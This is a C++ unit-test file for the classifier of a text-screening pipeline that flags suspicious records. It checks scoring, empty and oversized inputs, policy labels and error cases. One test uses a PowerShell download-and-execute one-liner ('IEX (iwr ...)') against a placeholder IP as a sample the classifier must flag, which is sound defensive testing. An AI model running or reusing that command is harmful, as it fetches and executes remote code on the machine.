#include "core/pipeline/classifier.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <future>

#include "core/engine/reference_engine.h"
#include "tests/support/random_model.h"

namespace txtsentry::pipeline {
namespace {

using ::testing::ElementsAre;
using ::testing::HasSubstr;

class ClassifierTest : public ::testing::Test {
 protected:
  ClassifierTest() : model_(test::RandomModel(4)) {
    options_.engine.engine = "reference";
    options_.workers = 2;
    classifier_ = Classifier::Create(model_, clock_, options_).value();
  }

  std::vector<Result> Classify(std::vector<Record> records) {
    std::promise<std::vector<Result>> promise;
    const auto call = classifier_->Classify(
        std::move(records), schedule::JobClass(),
        [&](std::vector<Result> results) { promise.set_value(std::move(results)); });
    EXPECT_TRUE(call.ok()) << call.status();
    return promise.get_future().get();
  }

  const base::SteadyClock clock_{};
  const model::Model model_;
  ClassifierOptions options_;
  std::unique_ptr<Classifier> classifier_;
};

TEST_F(ClassifierTest, ProbabilityIsTheEnginesForTheTokenizersIds) {
  const auto tokenizer = text::Tokenizer::Create(model_.tokens, model::kUnknownId).value();
  const auto engine = engine::MakeReferenceEngine(model_.weights).value();
  std::vector<Record> records;
  test::Random random(6);
  for (int i = 0; i < 200; ++i) records.push_back({random.Bytes(random.Between(0, 80)), ""});
  const auto results = Classify(records);
  ASSERT_EQ(results.size(), records.size());
  for (size_t i = 0; i < records.size(); ++i) {
    test::OwnedBatch row;
    tokenizer->AppendIds(records[i].text, row.ids);
    ASSERT_EQ(results[i].token_count, static_cast<int64_t>(row.ids.size()));
    if (row.ids.empty()) continue;
    row.offsets.push_back(results[i].token_count);
    float logit = 0;
    ASSERT_TRUE(engine->Score(row.view(), absl::MakeSpan(&logit, 1)).ok());
    EXPECT_EQ(results[i].probability, engine::Probability(logit));
    EXPECT_EQ(results[i].verdict.suspicious, results[i].probability >= 0.5f);
  }
}

TEST_F(ClassifierTest, AnEmptyRecordIsNotAnError) {
  const auto results = Classify({{"", ""}, {"\"\" ''", ""}});
  for (const Result& result : results) {
    EXPECT_TRUE(result.status.ok());
    EXPECT_EQ(result.probability, 0);
    EXPECT_FALSE(result.verdict.suspicious);
    EXPECT_EQ(result.verdict.category, rules::Category::kEmpty);
    EXPECT_THAT(result.verdict.reasons, ElementsAre(rules::Reason::kEmpty));
  }
}

TEST_F(ClassifierTest, ATooLongRecordFailsAlone) {
  const auto results =
      Classify({{"a", ""}, {std::string(65'536, 'x'), ""}, {std::string(65'535, 'x'), ""}});
  EXPECT_TRUE(results[0].status.ok());
  EXPECT_EQ(results[1].status.code(), absl::StatusCode::kInvalidArgument);
  EXPECT_THAT(std::string(results[1].status.message()),
              HasSubstr("bytes=65536 exceed record_bytes_max=65535"));
  EXPECT_THAT(results[1].verdict.reasons, ElementsAre(rules::Reason::kTooLong));
  EXPECT_TRUE(results[2].status.ok());
  EXPECT_EQ(results[2].token_count, 3 * 65'535);
}

TEST_F(ClassifierTest, LabelsByTheConfiguredPolicy) {
  options_.judge.policy = rules::Policy::kTriage;
  classifier_ = Classifier::Create(model_, clock_, options_).value();
  EXPECT_EQ(classifier_->judge().policy(), rules::Policy::kTriage);
  const auto results = Classify({{"v=spf1 -all", ""}, {"IEX (iwr http://192.0.2.1/a)", ""}});
  EXPECT_FALSE(results[0].verdict.suspicious);
  EXPECT_TRUE(results[1].verdict.suspicious);
}

TEST_F(ClassifierTest, RefusesAMissingOwnerNamesFile) {
  options_.judge.owner_names_file = "/nonexistent/owner_names";
  EXPECT_EQ(Classifier::Create(model_, clock_, options_).status().code(),
            absl::StatusCode::kNotFound);
}

TEST_F(ClassifierTest, AnEmptyCallHasNoResults) { EXPECT_TRUE(Classify({}).empty()); }

TEST_F(ClassifierTest, RefusesAfterDrain) {
  classifier_->Drain();
  EXPECT_EQ(classifier_->Classify({{"a", ""}}, schedule::JobClass(), [](std::vector<Result>) {})
                .status()
                .code(),
            absl::StatusCode::kUnavailable);
}

TEST_F(ClassifierTest, RefusesAModelWithAnInconsistentVocabulary) {
  model::Model model = model_;
  model.tokens.pop_back();
  EXPECT_FALSE(Classifier::Create(model, clock_, options_).ok());
}

}  // namespace
}  // namespace txtsentry::pipeline
